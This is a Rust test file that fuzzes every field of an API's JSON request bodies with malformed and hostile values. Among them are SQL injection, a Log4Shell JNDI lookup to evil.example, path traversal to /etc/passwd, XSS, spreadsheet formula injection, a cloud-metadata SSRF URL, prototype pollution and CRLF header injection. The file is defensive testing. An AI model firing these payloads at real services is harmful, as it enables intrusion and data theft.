//! Values that no field expects, in every field of every body.

use std::collections::BTreeSet;

use serde_json::Value;

use super::{hostile::Range, table};

/// As JSON text: some of it no JSON library would write.
fn hostile() -> Vec<String> {
    let text = |text: &str| Value::from(text).to_string();
    let mut all: Vec<String> = [
        "null",
        "true",
        "false",
        "0",
        "-0",
        "-1",
        "1",
        "11",
        "1.5",
        "1e308",
        "-1e308",
        "5e-324",
        "1e400",
        "2147483648",
        "9223372036854775807",
        "9223372036854775808",
        "-9223372036854775809",
        "18446744073709551616",
        "[]",
        "[null]",
        "[[]]",
        "[1,\"a\"]",
        "{}",
        r#"{"a":{"b":{}}}"#,
        r#"{"$ne":null}"#,
        r#"{"__proto__":{"role":"admin"}}"#,
        r#"{"":""}"#,
        r#"{"\u0000":"\u0000"}"#,
        r#""""#,
        r#"" ""#,
        r#""\u0000""#,
        r#""a\u0000b""#,
        r#""\ud800""#,
        r#""\udc00\ud800""#,
        r#""\ud83d\ude00""#,
        r#""\ufffe\uffff""#,
        r#""\u202eadmin\u202c""#,
        r#""\u200b\u200d\ufeff""#,
        r#""\u2028\u2029\u0085""#,
        r#""\u0007\u001b[31mred\u001b[0m""#,
        r#""\r\nX-Injected: yes\r\n\r\n""#,
        r#""%0d%0aX-Injected:%20yes""#,
    ]
    .map(str::to_owned)
    .to_vec();
    all.extend(
        [
            "'; drop table users; --",
            "1' or '1'='1",
            "\\'; select pg_sleep(9); --",
            "${jndi:ldap://evil.example/x}",
            "{{7*7}}",
            "%s%s%n%x",
            "../../../../etc/passwd",
            "<script>alert(1)</script>",
            "=cmd|' /C calc'!A0",
            "javascript:alert(1)",
            "file:///etc/passwd",
            "http://169.254.169.254/latest/meta-data/",
            "https://",
            "https://[::1",
            "https://user:password@evil.example/",
            "http://\u{202e}",
            "admin",
            "ADMIN",
            "\u{430}dmin",
            "a@b",
            "a@b.c\u{0}",
            "\"<a@b.c>\"@x.y",
            "a@b.c\r\nBcc: x@y.z",
            "@x.y",
            "a@[127.0.0.1]",
            "2026-13-45T00:00:00Z",
            "+262142-12-31T23:59:59Z",
            "-262143-01-01T00:00:00Z",
            "+294277-01-01T00:00:00Z",
            "0000-01-01T00:00:00Z",
            "-4713-01-01T00:00:00Z",
            "9999-12-31T23:59:60Z",
            "2026-01-01T00:00:00+99:99",
            "2026-01-01T00:00:00.0000000000000001Z",
        ]
        .map(text),
    );
    all.extend([
        text(&"x".repeat(200_000)),
        text(&"\u{1f4a9}".repeat(20_000)),
        text(&format!("a{}", "\u{301}".repeat(20_000))),
        format!("{}{}", "[".repeat(110), "]".repeat(110)),
        format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)),
        format!("{}1{}", "{\"a\":".repeat(10_000), "}".repeat(10_000)),
        format!("[{}1]", "1,".repeat(50_000)),
        "9".repeat(400),
    ]);
    all
}

/// Every place of a body, as JSON Pointers.
fn places(value: &Value, at: &str, into: &mut Vec<String>) {
    match value {
        Value::Object(fields) => {
            for (name, inner) in fields {
                let place = format!("{at}/{name}");
                into.push(place.clone());
                places(inner, &place, into);
            }
        }
        Value::Array(items) => {
            for (n, inner) in items.iter().enumerate() {
                let place = format!("{at}/{n}");
                into.push(place.clone());
                places(inner, &place, into);
            }
        }
        _ => {}
    }
}

/// Every so many of the values are tried in a field that was walked before.
const SEEN: usize = 5;

const PLACEHOLDER: &str = "@@@";

#[tokio::test]
async fn no_value_of_a_field_breaks_a_route_and_nothing_of_a_refused_one_is_stored() {
    let mut range = Range::open().await;
    let (values, mut n, mut seen) = (hostile(), 0, BTreeSet::new());
    for route in table::routes() {
        let Some(body) = route.line.body else { continue };
        let mut all = Vec::new();
        places(&body(0), "", &mut all);
        for place in all {
            // A field that another route takes as well is read by the same code: it is tried with some values only.
            let name = place.rsplit('/').next().unwrap_or_default().to_owned();
            let step = if seen.insert(name) { 1 } else { SEEN };
            for value in values.iter().skip(n % step).step_by(step) {
                n += 1;
                let mut sample = body(n);
                *sample.pointer_mut(&place).expect("a place") = PLACEHOLDER.into();
                let text = sample.to_string().replacen(&format!("\"{PLACEHOLDER}\""), value, 1);
                let draft = range.draft(&route).header("content-type", "application/json").body(text);
                let answer = range.send(&route, &(&place, value), draft).await;
                assert!(!answer.headers.contains_key("x-injected"), "{place} {value}");
            }
            // And without it.
            n += 1;
            let mut sample = body(n);
            let (parent, last) = place.rsplit_once('/').expect("a place");
            if let Some(Value::Object(fields)) = sample.pointer_mut(parent) {
                fields.remove(last);
                let draft = range.draft(&route).json(&sample);
                range.send(&route, &("without", &place), draft).await;
            }
        }
    }
    range.close(1_500).await;
}
